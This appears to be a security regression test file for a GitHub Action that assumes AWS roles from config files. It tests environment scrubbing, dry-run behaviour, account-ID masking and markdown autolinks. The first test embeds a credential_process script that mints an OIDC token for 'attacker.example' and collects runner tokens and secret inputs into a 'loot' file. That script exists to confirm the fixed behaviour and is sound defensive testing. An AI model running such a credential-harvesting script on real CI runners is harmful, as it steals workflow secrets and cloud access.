/**
 * Ported from the security review (wt-review); assert the fixed behaviour.
 * REVIEW (issues 13/14): attacks on the bundled dist/ by the independent reviewer. These tests document
 * findings; a failing test is a finding that still reproduces.
 */
import fs from 'node:fs';
import path from 'node:path';
import { Scenario, DEPLOY, HUB, USER } from './support/scenario.js';

const posixTest = process.platform !== 'win32' ? test : test.skip; // shell-free node scripts, but /proc-free too

let s: Scenario;
beforeEach(async () => {
  s = await Scenario.start();
});
afterEach(async () => {
  await s.stop();
});

/**
 * Fixed (sources/runProcess.ts): the command gets the step's environment minus ACTIONS_*, INPUT_*,
 * STATE_* and the file-command variables. It still runs as the job's user (README: it can read what
 * that user can, /proc/PID/environ included on Linux); this checks what it is handed.
 * Was the finding: the endpoint allow-list (README "Security model") keeps a checked-in config from sending the
 * GitHub OIDC token to a non-AWS host, but a config `credential_process` runs with the step's whole
 * environment: ACTIONS_ID_TOKEN_REQUEST_URL/TOKEN (mint a token for any audience and send it anywhere)
 * and every INPUT_* (the workflow's secret inputs). The allow-list is therefore no boundary.
 */
posixTest('a config credential_process receives the OIDC request token and the secret inputs', async () => {
  const dir = path.join(s.job.dirs.workspace, 'proc');
  fs.mkdirSync(dir, { recursive: true });
  const loot = path.join(dir, 'loot.json');
  const script = path.join(dir, 'creds.mjs');
  fs.writeFileSync(
    script,
    `import fs from 'node:fs';
const e = process.env;
let minted = null;
try {
  const r = await fetch(e.ACTIONS_ID_TOKEN_REQUEST_URL + '&audience=attacker.example', { headers: { Authorization: 'Bearer ' + e.ACTIONS_ID_TOKEN_REQUEST_TOKEN } });
  minted = (await r.json()).value ?? null;
} catch {}
fs.writeFileSync(${JSON.stringify(loot)}, JSON.stringify({ requestToken: e.ACTIONS_ID_TOKEN_REQUEST_TOKEN ?? null, runtimeToken: e.ACTIONS_RUNTIME_TOKEN ?? null, totp: e['INPUT_MFA-TOTP-SECRET'] ?? null, minted, fileCommands: ['GITHUB_ENV', 'GITHUB_OUTPUT', 'GITHUB_STATE', 'GITHUB_PATH', 'GITHUB_STEP_SUMMARY'].filter((n) => n in e), inputs: Object.keys(e).filter((n) => /^(INPUT|STATE|ACTIONS)_/i.test(n)), kept: { home: e.HOME ?? null, region: e.AWS_REGION ?? null } }));
process.stdout.write(JSON.stringify({ Version: 1, AccessKeyId: ${JSON.stringify(USER.accessKeyId)}, SecretAccessKey: ${JSON.stringify(USER.secretAccessKey)} }));
`,
  );
  fs.writeFileSync(
    path.join(dir, 'config'),
    `[profile proc]\ncredential_process = "${process.execPath}" "${script}"\n\n[profile deploy]\nrole_arn = ${DEPLOY}\nsource_profile = proc\nexternal_id = deploy-ext-42\n`,
  );
  const TOTP = 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXQ';
  const r = await s.main({
    inputs: { 'config-file': 'proc/config', profile: 'deploy', 'aws-region': 'us-east-1', 'mfa-totp-secret': TOTP },
    // The runner gives every JavaScript action ACTIONS_RUNTIME_TOKEN (cache and artifact service).
    env: {
      ...s.oidcEnv,
      ACTIONS_RUNTIME_TOKEN: 'runtime-token-for-cache-and-artifacts',
      STATE_cleanup: 'x',
      GITHUB_PATH: `${s.job.dirs.root}/path-file`,
      AWS_REGION: 'eu-west-1',
    },
  });
  expect(fs.existsSync(loot)).toBe(true);
  const got = JSON.parse(fs.readFileSync(loot, 'utf8')) as {
    requestToken: string | null;
    runtimeToken: string | null;
    totp: string | null;
    minted: string | null;
    fileCommands: string[];
    inputs: string[];
    kept: { home: string | null; region: string | null };
  };
  // What the command should NOT have (each would be the finding):
  expect({
    step: r.exitCode,
    requestToken: got.requestToken,
    runtimeToken: got.runtimeToken,
    totp: got.totp,
    minted: got.minted !== null,
    fileCommands: got.fileCommands,
    inputs: got.inputs,
  }).toEqual({
    step: 0,
    requestToken: null,
    runtimeToken: null,
    totp: null,
    minted: false,
    fileCommands: [],
    inputs: [],
  });
  // What botocore would pass on still reaches it: HOME and AWS_* (control: the variables were not all dropped).
  expect(got.kept).toEqual({ home: s.job.dirs.home, region: 'eu-west-1' });
  // The secrets the test handed the step appear nowhere it printed, outside masks.
  expect(r.maskedLog).not.toContain(TOTP);
});

/** Same boundary through the dry run: a dry run runs no credential_process (README), checked here as control. */
posixTest('control: dry-run runs no credential_process', async () => {
  const dir = path.join(s.job.dirs.workspace, 'proc');
  fs.mkdirSync(dir, { recursive: true });
  const marker = path.join(dir, 'ran');
  fs.writeFileSync(
    path.join(dir, 'config'),
    `[profile proc]\ncredential_process = /bin/sh -c "touch ${marker}"\n\n[profile deploy]\nrole_arn = ${DEPLOY}\nsource_profile = proc\n`,
  );
  const r = await s.main({ inputs: { 'config-file': 'proc/config', profile: 'deploy', 'aws-region': 'us-east-1', 'dry-run': 'true' }, env: s.oidcEnv });
  expect(r.exitCode).toBe(0);
  expect(fs.existsSync(marker)).toBe(false);
  void HUB;
});

/** mask-aws-account-id: "wherever the action prints or writes them: the log, errors, the job summary and the plan output". */
for (const dryRun of ['true', 'false']) {
  test(`mask-aws-account-id hides every account ID (dry-run ${dryRun}, three hops, config mode)`, async () => {
    fs.mkdirSync(path.join(s.job.dirs.workspace, '.github', 'aws'), { recursive: true });
    fs.writeFileSync(
      path.join(s.job.dirs.workspace, '.github', 'aws', 'config'),
      `[profile ci]\nweb_identity_token_file = /var/run/not-in-ci/token\nrole_arn = ${HUB}\n\n[profile deploy-222222222222]\nrole_arn = ${DEPLOY}\nsource_profile = ci\nexternal_id = deploy-ext-42\n`,
    );
    const r = await s.main({
      inputs: {
        'config-file': '.github/aws/config',
        profile: 'deploy-222222222222',
        'aws-region': 'us-east-1',
        'mask-aws-account-id': 'true',
        'dry-run': dryRun,
        'aws-profile': 'deploy-222222222222',
      },
      env: s.oidcEnv,
    });
    expect(r.exitCode).toBe(0);
    const unmasked = (text: string) => text.split(/\r\n|\r|\n/).filter((l) => /111111111111|222222222222/.test(l) && !l.startsWith('::add-mask::'));
    const masked = new Set(r.masks);
    // what the runner would still show: lines holding an ID that was never registered as a mask
    const neverMasked = ['111111111111', '222222222222'].filter(
      (id) => [r.stdout, r.summary, ...Object.values(r.outputs)].some((t) => t.includes(id)) && !masked.has(id),
    );
    expect({ neverMasked, summary: unmasked(r.summary), plan: unmasked(r.outputs['plan'] ?? ''), log: unmasked(r.maskedLog) }).toEqual({
      neverMasked: [],
      summary: [],
      plan: [],
      log: [],
    });
  });
}

/**
 * README/markdown.ts: "no link … can come out of it". IAM paths may hold any printable ASCII, so a
 * checked-in role ARN can carry a URL; GFM's autolink extension turns bare `https://…` and `www.…`
 * into links in the job summary (dry run included), without any `[`, `<` or `(`.
 */
test('a role ARN path with a bare URL does not become a link in the job summary (GFM autolinks)', async () => {
  fs.mkdirSync(path.join(s.job.dirs.workspace, '.github', 'aws'), { recursive: true });
  const evil = 'arn:aws:iam::222222222222:role/https://login.evil.example/aws/www.evil.example/deployer';
  fs.writeFileSync(
    path.join(s.job.dirs.workspace, '.github', 'aws', 'config'),
    `[profile ci]\nweb_identity_token_file = /var/run/not-in-ci/token\nrole_arn = ${HUB}\n\n[profile deploy]\nrole_arn = ${evil}\nsource_profile = ci\n`,
  );
  const r = await s.main({ inputs: { 'config-file': '.github/aws/config', profile: 'deploy', 'aws-region': 'us-east-1', 'dry-run': 'true' }, env: s.oidcEnv });
  expect(r.exitCode).toBe(0);
  // GFM extended autolinks: `https://` or `www.` preceded by start, whitespace or one of * _ ~ (
  const autolinks = r.summary.split('\n').filter((l) => /(^|[\s*_~(])(https?:\/\/|www\.)[^\s<]/.test(l));
  expect(autolinks).toEqual([]);
});
